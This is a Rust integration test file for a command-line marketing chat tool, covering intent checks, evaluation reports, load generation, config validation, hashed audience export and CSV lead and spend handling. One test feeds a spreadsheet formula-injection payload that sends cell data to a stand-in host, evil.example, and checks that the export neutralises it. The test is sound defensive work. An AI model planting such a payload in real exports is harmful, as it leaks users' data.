//! The command line: `intents check` and `intents eval` on small fixture packs with known
//! outcomes, `loadgen`, the audience export, and bad input refused with a reason.

/// Exit code and everything the command printed.
fn nudge(args: &[&str]) -> (i32, String) {
    let (code, stdout, stderr) = crate::helpers::run_nudge(args);
    (code, stdout + &stderr)
}

#[test]
fn check_passes_a_good_pack_and_points_at_a_failing_example() {
    let (code, out) = nudge(&["intents", "check", "tests/fixtures/small"]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("4 intents, 0 emails, 0 segments, 0 journeys, 0 triggers, 3 examples: all pass"), "{out}");

    let (code, out) = nudge(&["intents", "check", "tests/fixtures/failing"]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("tests/fixtures/failing/pack.toml:24:36: example \"has it shipped yet\" routes to `shipping`, not `tracking`"),
        "{out}"
    );
    assert!(out.contains("1 of 4 examples fail"), "{out}");
}

#[test]
fn eval_reports_known_numbers() {
    let (code, out) = nudge(&["intents", "eval", "tests/fixtures/small/eval.csv", "--intents", "tests/fixtures/small"]);
    assert_eq!(code, 0, "{out}");
    for line in [
        "accuracy: 0.667 (4/6)",
        "accuracy on labelled rows: 0.750 (3/4)",
        "false matches on none: 0.500 (1/2)",
        "tracking                     1.000   0.667      3",
        "other                         2         -          0.500",
        "shop                          4     0.750              -",
        "en                            6     0.750          0.500",
        "    1  none -> shipping",
        "         \"do you ship pizza\"",
    ] {
        assert!(out.contains(line), "missing {line:?} in:\n{out}");
    }
    let (_, json) =
        nudge(&["intents", "eval", "tests/fixtures/small/eval.csv", "--intents", "tests/fixtures/small", "--json"]);
    let report: serde_json::Value = serde_json::from_str(&json).expect("json");
    assert_eq!(report["labelled_accuracy"], 0.75);
    assert_eq!(report["false_match_rate"], 0.5);
    assert_eq!(report["per_intent"]["shipping"]["false_positives"], 1);
    assert_eq!(report["per_source"]["other"]["false_match_rate"], 0.5);
    assert_eq!(report["per_lang"]["en"]["rows"], 6);

    let (_, csv) =
        nudge(&["intents", "eval", "tests/fixtures/small/eval.csv", "--intents", "tests/fixtures/small", "--rows"]);
    assert!(csv.starts_with("text,label,got,how,confidence,source,lang,"), "{csv}");
    assert!(csv.contains("do you ship pizza,none,shipping,pattern,1.0,other,en,"), "{csv}");

    let (code, out) = nudge(&["intents", "eval", "no-such.csv", "--intents", "tests/fixtures/small"]);
    assert_eq!(code, 1);
    assert!(out.contains("no-such.csv"), "{out}");
}

#[test]
fn folds_tune_on_some_rows_and_measure_on_the_others() {
    let args = ["intents", "eval", "tests/fixtures/small/eval.csv", "--intents", "tests/fixtures/small", "--folds"];
    let (code, out) = nudge(&[&args[..], &["2"]].concat());
    assert_eq!(code, 0, "{out}");
    for line in
        ["pooled", "tuned on all", "pack                6      0.40    0.02  0.30   0.30     0.750          0.500"]
    {
        assert!(out.contains(line), "missing {line:?} in:\n{out}");
    }
    let (_, json) = nudge(&[&args[..], &["2", "--json"]].concat());
    let report: serde_json::Value = serde_json::from_str(&json).expect("json");
    let folds = report["folds"].as_array().expect("folds");
    assert_eq!(folds.len(), 2);
    let rows: u64 = folds.iter().map(|f| f["rows"].as_u64().expect("rows")).sum();
    assert_eq!((rows, report["pooled"]["rows"].as_u64()), (6, Some(6)), "each row measured once");
    // Pooled over folds is what each fold measured, added up.
    let correct: u64 = folds.iter().map(|f| f["totals"]["correct"].as_u64().expect("correct")).sum();
    assert_eq!(report["pooled"]["correct"].as_u64(), Some(correct));

    let (code, out) = nudge(&[&args[..], &["1"]].concat());
    assert_eq!(code, 1);
    assert!(out.contains("--folds needs at least 2 folds"), "{out}");
}

#[tokio::test]
async fn loadgen_reports_round_trips_and_holds_idle_connections() {
    let server = crate::helpers::TestServer::start();
    let url = server.ws_url();
    for (extra, expect_round_trips) in [(&[][..], true), (&["--idle"][..], false), (&["--rate", "50"][..], true)] {
        let mut args: Vec<String> =
            ["loadgen", "--url", &url, "--connections", "5", "--duration", "1", "--warmup", "0.2", "--json"]
                .iter()
                .map(|a| a.to_string())
                .collect();
        args.extend(extra.iter().map(|a| a.to_string()));
        let (code, out) = tokio::task::spawn_blocking(move || {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            nudge(&args)
        })
        .await
        .expect("join");
        assert_eq!(code, 0, "{out}");
        let report: serde_json::Value = serde_json::from_str(out.lines().next().unwrap_or("")).expect("json report");
        assert_eq!(report["connected"], 5, "{extra:?}: {report}");
        assert_eq!(report["errors"], 0, "{extra:?}: {report}");
        assert_eq!(report["round_trips"].as_u64().is_some_and(|n| n > 0), expect_round_trips, "{extra:?}: {report}");
    }
}

#[tokio::test]
async fn loadgen_says_which_server_setting_refused_it() {
    let dir = tempfile::tempdir().expect("dir");
    // The defaults but for two connections per address.
    let config = dir.path().join("nudge.toml");
    std::fs::write(&config, "max_connections_per_ip = 2\n").expect("write");
    let args = ["--config", config.to_str().expect("utf-8")];
    let server = crate::helpers::TestServer::start_on(&dir.path().join("data"), std::path::Path::new("intents"), &args);
    let url = server.ws_url();
    let (code, out) = tokio::task::spawn_blocking(move || {
        nudge(&["loadgen", "--url", &url, "--connections", "4", "--duration", "1", "--warmup", "0.2"])
    })
    .await
    .expect("join");
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains(
            "connect refused with 429: too many chat connections from this address (the server's max_connections_per_ip"
        ),
        "{out}"
    );
}

#[test]
fn bad_command_line_input_is_refused_with_a_reason() {
    let dir = tempfile::tempdir().expect("dir");
    let bad_config = dir.path().join("bad.toml");
    std::fs::write(&bad_config, "listen = \"127.0.0.1:0\"\nlisten_port = 3\n").expect("write");
    let bad_proxy = dir.path().join("proxy.toml");
    std::fs::write(&bad_proxy, "trusted_proxies = [\"10.0.0.0/40\"]\n").expect("write");
    let data = dir.path().join("data");
    let (config, data) = (bad_config.to_str().expect("utf-8"), data.to_str().expect("utf-8"));
    let bad_proxy = bad_proxy.to_str().expect("utf-8");
    let bad_quiet = dir.path().join("quiet.toml");
    std::fs::write(&bad_quiet, "quiet_hours = \"21-08\"\n").expect("write");
    let bad_zone = dir.path().join("zone.toml");
    std::fs::write(&bad_zone, "timezone = \"Mars/Olympus\"\n").expect("write");
    let (bad_quiet, bad_zone) = (bad_quiet.to_str().expect("utf-8"), bad_zone.to_str().expect("utf-8"));
    for (args, says) in [
        (vec!["serve", "--config", bad_quiet, "--data", data], "quiet hours \"21-08\" are not written like"),
        (vec!["serve", "--config", bad_zone, "--data", data], "unknown time zone \"Mars/Olympus\""),
        (vec!["serve", "--config", config, "--data", data], "unknown field `listen_port`"),
        (vec!["serve", "--config", bad_proxy, "--data", data], "\"10.0.0.0/40\" is neither an IP address"),
        (vec!["serve", "--config", "no-such.toml", "--data", data], "no-such.toml"),
        (
            vec!["serve", "--listen", "127.0.0.1:0", "--data", data, "--intents", "tests/fixtures/failing/nope"],
            "error: there is no intents directory at tests/fixtures/failing/nope: Nudge answers from intent files",
        ),
        (vec!["link", "--email", "not-an-email", "--data", data], "is not an email address"),
        (vec!["link", "--email", "a@example.com", "--ttl", "5x", "--data", data], "unknown unit"),
        (vec!["export", "leads", "--status", "happy", "--data", data], "unknown status"),
        (vec!["export", "audience", "--platform", "tiktok", "--data", data], "invalid value 'tiktok'"),
    ] {
        let (code, out) = nudge(&args);
        assert_ne!(code, 0, "{args:?}");
        assert!(out.contains(says), "{args:?}: {out}");
    }
}

#[test]
fn the_audience_export_hashes_emails_of_visitors_with_ads_consent() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    let store = crate::backend::open_store(&data).expect("store");
    let now = nudge::now_ms();
    let mut writes = Vec::new();
    for (email, ads) in [(" Ana@Example.com", true), ("bo@example.com", false)] {
        use nudge::domain::{Change, ConsentChange};
        let visitor = nudge::ids::VisitorId::mint(now);
        let consent = nudge::protocol::Consent { marketing: true, ads };
        let email = Change::Preference { name: "email".into(), value: email.into(), at: now, message: String::new() };
        for change in [
            Change::Create { at: now, locale: "en".into() },
            Change::Consent(ConsentChange::page(consent, "test", now)),
            email,
        ] {
            writes.push(nudge::store::Command::Visitor { visitor, change });
        }
    }
    store.commit_blocking(writes).expect("commit");
    drop(store);
    let (code, out, err) = crate::helpers::run_nudge(&[
        "export",
        "audience",
        "--platform",
        "meta",
        "--data",
        data.to_str().expect("utf-8"),
    ]);
    assert_eq!(code, 0, "{err}");
    // Normalized (trimmed, lowercased) before hashing: `echo -n ana@example.com | sha256sum`.
    assert_eq!(out, "email\n8e43ca37701228e74983efdbd0cff5c16b3b1e5d4e29a7c05626d4d25a018e11\n");
    assert!(err.contains("1 hashed emails exported"), "{err}");
}

#[test]
fn nudge_chat_shows_the_matched_intent_and_what_was_noted() {
    use std::io::{BufRead, BufReader, Write};
    let server = crate::helpers::TestServer::start();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_nudge"))
        .args(["chat", "--url", &server.ws_url()])
        .env("RUST_LOG", "warn")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("nudge chat");
    let mut stdin = child.stdin.take().expect("stdin");
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let mut read_until = |needle: &str| -> Vec<String> {
        let mut seen = Vec::new();
        for line in lines.by_ref() {
            let line = line.expect("read");
            let done = line.contains(needle);
            seen.push(line);
            if done {
                return seen;
            }
        }
        panic!("nudge chat ended before {needle:?}: {seen:?}");
    };
    read_until("bot [welcome");
    writeln!(stdin, "I'm looking for sneakers in size 42").expect("type");
    let seen = read_until("(noted:");
    assert!(seen.iter().any(|l| l.starts_with("bot [product_interest via pattern 1.00]")), "{seen:?}");
    assert!(seen.last().is_some_and(|l| l.contains("product=sneakers, size=42")), "{seen:?}");
    drop(stdin);
    let _ = child.wait();
}

#[tokio::test]
async fn a_campaign_written_as_a_formula_is_exported_as_text() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    let mut server = crate::helpers::TestServer::start_on(&data, std::path::Path::new("intents"), &[]);
    let mut socket = server.connect().await;
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")";
    let mut click_ids = std::collections::BTreeMap::new();
    click_ids.insert("@gclid".to_string(), "+1".to_string());
    let hello = nudge::protocol::Hello { campaign: Some(formula.into()), click_ids, ..Default::default() };
    crate::helpers::hello(&mut socket, hello).await;
    crate::helpers::say(&mut socket, "hi").await;
    drop(socket);
    server.stop();
    let (code, csv, err) = crate::helpers::run_nudge(&["export", "leads", "--data", data.to_str().expect("utf-8")]);
    assert_eq!(code, 0, "{err}");
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let headers = rows.headers().expect("header").clone();
    let row = rows.records().next().expect("one lead").expect("row");
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect(name).to_string();
    assert_eq!(cell("campaign"), format!("'{formula}"));
    assert_eq!(cell("order_value"), "0.00", "a lead without orders, not -0.00");
    assert!(!cell("source").starts_with(['=', '+', '-', '@']), "{}", cell("source"));
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?} would run as a formula");
    }
}

#[test]
fn spend_is_imported_from_csv_all_rows_or_none() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    let data = data.to_str().expect("utf-8");
    let file = dir.path().join("spend.csv");
    let header = "date,campaign,platform,amount,currency\n";
    std::fs::write(&file, format!("{header}2026-11-29,spring,meta,20.5,EUR\n2026-11-30,spring,meta,-1,EUR\n"))
        .expect("write");
    let (code, out) = nudge(&["spend", "import", file.to_str().expect("utf-8"), "--data", data]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("spend.csv:3: `amount` -1 must be a number of zero or more"), "{out}");
    std::fs::write(&file, format!("{header}2026-11-29,spring,meta,20.5,EUR\n2026-11-30,spring,Meta,19.5,EUR\n"))
        .expect("write");
    let (code, out) = nudge(&["spend", "import", file.to_str().expect("utf-8"), "--data", data]);
    assert_eq!((code, out.trim()), (0, "imported 2 spend rows"), "{out}");
    let store = crate::backend::open_store(std::path::Path::new(data)).expect("store");
    let rows: Vec<_> = store.spend().map(|r| r.expect("row")).collect();
    assert_eq!(rows.iter().map(|r| r.amount).sum::<f64>(), 40.0, "only the good file's rows: {rows:?}");
}

/// What the server logs about a connection names its visitor and conversation.
#[tokio::test]
async fn log_lines_of_a_chat_name_its_visitor_and_conversation() {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir().expect("dir");
    let config = dir.path().join("nudge.toml");
    std::fs::write(&config, "messages_per_second = 1.0\nmessage_burst = 1.0\nrate_limit_strikes = 2\n").expect("write");
    let data = dir.path().join("data");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_nudge"))
        .args(["serve", "--listen", "127.0.0.1:0", "--config", config.to_str().expect("utf-8")])
        .args(["--data", data.to_str().expect("utf-8")])
        .env("RUST_LOG", "warn")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("nudge serve");
    let mut stdout = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let addr = loop {
        let line = stdout.next().expect("listening").expect("read");
        if let Some(addr) = line.strip_prefix("nudge listening on http://") {
            break addr.to_string();
        }
    };
    let mut socket = nudge::client::connect(&format!("ws://{addr}/ws")).await.expect("connect");
    let (visitor, conversation, ..) = crate::helpers::hello(&mut socket, nudge::protocol::Hello::default()).await;
    // Faster than the budget allows: refused twice, then closed.
    for _ in 0..4 {
        let say = nudge::protocol::ClientFrame::Say { text: "hi".into() };
        if nudge::client::send(&mut socket, &say).await.is_err() {
            break;
        }
    }
    while nudge::client::recv(&mut socket).await.is_ok() {}
    let _ = child.kill();
    let mut stderr = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().expect("stderr"), &mut stderr).expect("read");
    let _ = child.wait();
    let line = stderr.lines().find(|l| l.contains("chat closed: rate limited")).unwrap_or_else(|| panic!("{stderr}"));
    assert!(
        line.contains(&format!("visitor={visitor}")) && line.contains(&format!("conversation={conversation}")),
        "{line}"
    );
}

#[test]
fn intents_check_points_at_a_broken_trigger() {
    let dir = tempfile::tempdir().expect("dir");
    let broken = "[[trigger]]\nid = \"soon\"\nafter = \"soonish\"\naction = \"teaser\"\nintent = \"refund\"\n";
    let intents = crate::helpers::copy_starter_pack(dir.path(), |text| {
        if text.contains("[[trigger]]") { broken.to_string() } else { text.to_string() }
    });
    let (code, out) = nudge(&["intents", "check", intents.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{out}");
    for want in ["triggers.toml:3:10: duration \"soonish\"", "triggers.toml:5:11: intent `refund` cannot open a chat"] {
        assert!(out.contains(want), "{want} in {out}");
    }
}
